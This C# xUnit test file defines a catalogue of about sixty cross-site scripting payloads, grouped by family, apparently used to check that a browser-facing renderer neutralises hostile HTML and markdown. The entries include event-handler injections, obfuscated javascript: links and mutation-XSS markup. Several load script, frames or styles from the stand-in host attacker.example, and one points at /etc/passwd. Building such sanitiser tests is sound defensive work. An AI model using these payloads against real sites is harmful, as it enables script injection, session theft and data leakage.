using Xunit;

namespace LearningSpace.Browser.Tests;

/// <summary>Texts as an attacker would hand them in: the known ways by which written text has come to run as script or to fetch from elsewhere.</summary>
public static class Payloads
{
    /// <summary>What a payload does when it runs.</summary>
    private const string Run = "window.__pwned=1";

    /// <summary>The payloads by the way they try.</summary>
    public static IReadOnlyDictionary<string, string> ByFamily { get; } = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["script element"] = $"<script>{Run}</script>",
        ["script from elsewhere"] = "<script src=\"http://attacker.example/x.js\"></script>",
        ["script inside a script's name"] = $"<scr<script></script>ipt>{Run}</scr<script></script>ipt>",
        ["dialog"] = "<script>alert(1)</script><img src=x onerror=alert(1)>",
        ["image that fails"] = $"<img src=x onerror={Run}>",
        ["image in capitals with a slash"] = $"<IMG/SRC=x/OnErRoR=\"{Run}\">",
        ["image from elsewhere, raw"] = "<img src=\"http://attacker.example/raw.png\" srcset=\"http://attacker.example/set.png 2x\">",
        ["svg that loads"] = $"<svg onload={Run}><circle r=9></circle></svg>",
        ["script in svg"] = $"<svg><script>{Run}</script></svg>",
        ["svg that animates a link"] = $"<svg><a><animate attributeName=href values=\"javascript:{Run}\" /><text y=20>go</text></a></svg>",
        ["foreign object"] = $"<svg><foreignObject><img src=x onerror={Run}></foreignObject></svg>",
        ["mathml hiding an image"] = $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={Run}&gt;\">",
        ["noscript that ends in an attribute"] = $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"></noscript>",
        ["template"] = $"<template><img src=x onerror={Run}></template>",
        ["comment that ends early"] = $"<!--><img src=x onerror={Run}>-->",
        ["text area that ends"] = $"<textarea></textarea><img src=x onerror={Run}></textarea>",
        ["title that ends"] = $"</title></textarea></style></script><img src=x onerror={Run}>",
        ["attribute that ends"] = $"\"><img src=x onerror={Run}><a title=\"",
        ["single quotes"] = $"' autofocus onfocus='{Run}' x='",
        ["frame with script"] = $"<iframe src=\"javascript:parent.{Run}\"></iframe>",
        ["frame with a document"] = $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>",
        ["frame from elsewhere"] = "<iframe src=\"http://attacker.example/\"></iframe>",
        ["object and embed"] = $"<object data=\"javascript:{Run}\"></object><embed src=\"javascript:{Run}\">",
        ["body that loads"] = $"<body onload={Run} onpageshow={Run}>",
        ["details that open"] = $"<details open ontoggle={Run}><summary>open</summary></details>",
        ["field that takes the focus"] = $"<input autofocus onfocus={Run}><select autofocus onfocus={Run}></select>",
        ["video source that fails"] = $"<video><source onerror={Run}></video><audio src=x onerror={Run}></audio>",
        ["element that moves"] = $"<marquee onstart={Run}>x</marquee><p style=\"animation:x 1s\" onanimationstart={Run}>x</p>",
        ["pointer over an element"] = $"<p onmouseover={Run} onpointerenter={Run} onclick={Run}>over here</p>",
        ["refresh and base"] = "<meta http-equiv=refresh content=\"0;url=http://attacker.example/\"><base href=\"http://attacker.example/\">",
        ["style sheets"] = "<link rel=stylesheet href=\"http://attacker.example/x.css\"><style>@import 'http://attacker.example/y.css'; body { background: url(http://attacker.example/z.png) }</style>",
        ["style attribute"] = "<p style=\"background:url(http://attacker.example/s.png);position:fixed;inset:0\">covers all</p>",
        ["form to elsewhere"] = $"<form action=\"http://attacker.example/\"><button formaction=\"javascript:{Run}\">go</button></form>",
        ["names of the document"] = "<form id=forms name=body><input name=attributes><img name=getElementById></form>",
        ["raw link with script"] = $"<a href=\"javascript:{Run}\">raw</a>",
        ["link with script"] = $"[link](javascript:{Run})",
        ["link with script, disguised"] = $"[entity](java&#115;cript:{Run}) [colon](javascript&colon;{Run}) [tab](<java\tscript:{Run}>) [capitals](JaVaScRiPt:{Run}) [control](<\u0001javascript:{Run}>)",
        ["link by reference"] = $"[referred][r]\n\n[r]: javascript:{Run} \"title\"",
        ["link with a title that ends"] = $"[titled](/es \"x\\\" onmouseover=\\\"{Run}\")",
        ["automatic link"] = $"<javascript:{Run}> <vbscript:{Run}>",
        ["link to data"] = $"[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+) [blob](blob:null/{Run})",
        ["image from elsewhere"] = "![remote](http://attacker.example/a.png) ![no scheme](//attacker.example/b.png) [back](/\\attacker.example/c)",
        ["image with script"] = $"![x](javascript:{Run}) ![y](x\"onerror=\"{Run}) ![\"onerror=\"{Run}](x)",
        ["name of a code block"] = $"```\"><img src=x onerror={Run}>\ncode\n```",
        ["table cell"] = $"| a |\n|---|\n| <img src=x onerror={Run}> |",
        ["heading"] = $"# <img src=x onerror={Run}> {{#x onclick={Run}}}",
        ["generic attributes"] = $"text{{onclick=\"{Run}\" style=\"color:red\"}}",
        ["shadow root that is declared"] = $"<div><template shadowrootmode=open><img src=x onerror={Run}></template></div>",
        ["mutation by a table"] = $"<table><td><select><table><img src=x onerror={Run}></table></select></td><svg><style><img src=x onerror={Run}></style></svg></table>",
        ["mutation by forms in one another"] = $"<form><div></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={Run} src>\"></mtext></svg></mglyph></form>",
        ["mutation by a description"] = $"<svg></p><desc><style><a id=\"</style><img src=x onerror={Run}>\"></desc></svg>",
        ["text of another kind"] = $"<![CDATA[<img src=x onerror={Run}>]]><?xml-stylesheet href=\"javascript:{Run}\"?><!ENTITY x \"{Run}\">",
        ["element of one's own"] = $"<x onclick={Run} tabindex=1 autofocus onfocus={Run}>x</x><xss id=x style=animation:x onanimationend={Run}>",
        ["letters that look alike or are not seen"] = $"[wide](\uFF4A\uFF41\uFF56ascript:{Run}) [soft](java\u00ADscript:{Run}) [joined](java\u200Dscript:{Run}) [turned](\u202Ejavascript:{Run}) [mark](\uFEFFjavascript:{Run}) <\u2028img src=x onerror={Run}>",
        ["link within a link"] = $"[[inner](javascript:{Run})](http://example.org/) [![picture](javascript:{Run})](javascript:{Run})",
        ["link in a table and a heading"] = $"## [x](javascript:{Run})\n\n| [a](javascript:{Run}) |\n|---|\n| ![b](data:image/svg+xml,<svg/onload={Run}>) |",
        ["address that ends"] = $"http://example.org/\"onmouseover=\"{Run} <http://example.org/'onmouseover='{Run}> www.example.org/><img/src=x/onerror={Run}>",
        ["scheme of another program"] = $"[a](feed:javascript:{Run}) [b](view-source:javascript:{Run}) [c](ms-word:ofe|u|http://attacker.example/x) [d](intent://x#Intent;end) [e](file:///etc/passwd)",
        ["page shown as a picture"] = "![x](/es/explore?q=x) ![y](/media/../es/explore?q=y) ![z](/media/%2e%2e/es/explore?q=z)",
        ["many at once"] = $"--!></style></title></textarea></script>'\"><svg/onload={Run}//><img src=`x`onerror={Run}>[a](javascript:{Run})",
    };

    /// <summary>The families, as rows of a theory.</summary>
    public static TheoryData<string> Families => [.. ByFamily.Keys];
}
